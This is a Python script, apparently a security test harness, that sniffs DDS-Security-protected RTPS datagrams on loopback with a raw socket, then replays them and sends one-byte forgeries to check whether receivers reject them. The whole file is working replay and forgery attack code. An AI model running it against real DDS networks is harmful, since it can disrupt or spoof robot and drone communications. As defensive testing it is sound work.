"""An on-path attacker on the swarm's DDS link: it records the secured RTPS datagrams
on loopback and later sends them again, verbatim (replays) and with one byte changed
(forgeries). It needs no DDS library and no key: it is a raw packet socket (AF_PACKET,
so root) on `lo`, which sees every datagram any process sends there.

Usage: dds_onpath.py --domain D [--iface lo]

Records, from its start, every UDP datagram to a port of DDS domain D (RTPS's port
mapping: 7400 + 250 D, the 250 ports from there) whose RTPS message is secured as a
whole (its first submessage a SRTPS_PREFIX, 0x33: DDS Security's rtps_protection_kind
SIGN or ENCRYPT), until it gets SIGUSR1. Then it sends each recorded datagram
to where it went, from a socket of its own (RTPS reads the sender from the message,
not from the address):
- a replay: the datagram as recorded;
- a forgery: the datagram with one byte of its protected content flipped (the last
  byte before its SRTPS_POSTFIX submessage), which DDS Security's message MAC covers.
Replays go first, all of them, then the forgeries, ten datagrams a millisecond at most (a
burst of thousands at once would overflow the receivers' socket buffers).

Prints `recording` once it records, then one JSON line: `recorded`, `replayed`,
`forged` (datagrams), `to_ports` (the destination ports, with how many went to each).
Exits 0; the caller judges the effect.
"""

import argparse
import json
import select
import signal
import socket
import struct
import threading
import time

ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4
SRTPS_PREFIX = 0x33
SRTPS_POSTFIX = 0x34
RTPS_HEADER_LEN = 20


def submessages(msg):
    """(offset, id) of every submessage of an RTPS message `msg` (bytes)."""
    out = []
    i = RTPS_HEADER_LEN
    while i + 4 <= len(msg):
        sub_id, flags = msg[i], msg[i + 1]
        (length,) = struct.unpack("<H" if flags & 1 else ">H", msg[i + 2 : i + 4])
        out.append((i, sub_id))
        if length == 0:  # the last submessage runs to the end of the message
            break
        i += 4 + length
    return out


def secured(msg):
    """Whether `msg` is an RTPS message protected as a whole."""
    if len(msg) < RTPS_HEADER_LEN + 4 or msg[:4] != b"RTPS":
        return False
    subs = submessages(msg)
    return bool(subs) and subs[0][1] == SRTPS_PREFIX and subs[-1][1] == SRTPS_POSTFIX


def forged(msg):
    """`msg` with the last byte before its SRTPS_POSTFIX flipped."""
    postfix = submessages(msg)[-1][0]
    out = bytearray(msg)
    out[postfix - 1] ^= 0xFF
    return bytes(out)


def udp_of(frame):
    """(destination address, destination port, payload) of an IPv4/UDP frame seen on
    `lo` (an Ethernet header of 14 bytes), or None."""
    if len(frame) < 14 + 20 + 8 or frame[12:14] != b"\x08\x00":
        return None
    ip = frame[14:]
    ihl = (ip[0] & 0x0F) * 4
    if ip[9] != 17:  # UDP
        return None
    dst = socket.inet_ntoa(ip[16:20])
    udp = ip[ihl:]
    (dport, length) = struct.unpack(">H2xH", udp[2:8])
    return dst, dport, bytes(udp[8:length])


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--domain", type=int, required=True)
    ap.add_argument("--iface", default="lo")
    a = ap.parse_args()
    first = 7400 + 250 * a.domain
    ports = range(first, min(first + 250, 65536))

    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(ETH_P_ALL))
    sniff.bind((a.iface, 0))
    sniff.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
    recorded = []
    stop = threading.Event()

    def record():
        while not stop.is_set():
            ready, _, _ = select.select([sniff], [], [], 0.1)
            if not ready:
                continue
            frame, addr = sniff.recvfrom(65535)
            # On `lo` every datagram passes twice, going out and coming in: keep one.
            if addr[2] == PACKET_OUTGOING:
                continue
            udp = udp_of(frame)
            if udp and udp[1] in ports and secured(udp[2]):
                recorded.append(udp)

    go = threading.Event()
    signal.signal(signal.SIGUSR1, lambda *_: go.set())
    t = threading.Thread(target=record, daemon=True)
    t.start()
    print("recording", flush=True)
    while not go.wait(0.1):
        pass
    stop.set()
    t.join()
    sniff.close()

    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    to_ports = {}
    sent = 0

    def send(msg, dst, port):
        nonlocal sent
        out.sendto(msg, (dst, port))
        sent += 1
        if sent % 10 == 0:
            time.sleep(0.001)

    for dst, port, msg in recorded:
        send(msg, dst, port)
        to_ports[port] = to_ports.get(port, 0) + 1
    for dst, port, msg in recorded:
        send(forged(msg), dst, port)
    print(
        json.dumps(
            {
                "recorded": len(recorded),
                "replayed": len(recorded),
                "forged": len(recorded),
                "to_ports": {str(k): v for k, v in sorted(to_ports.items())},
            }
        ),
        flush=True,
    )


if __name__ == "__main__":
    main()
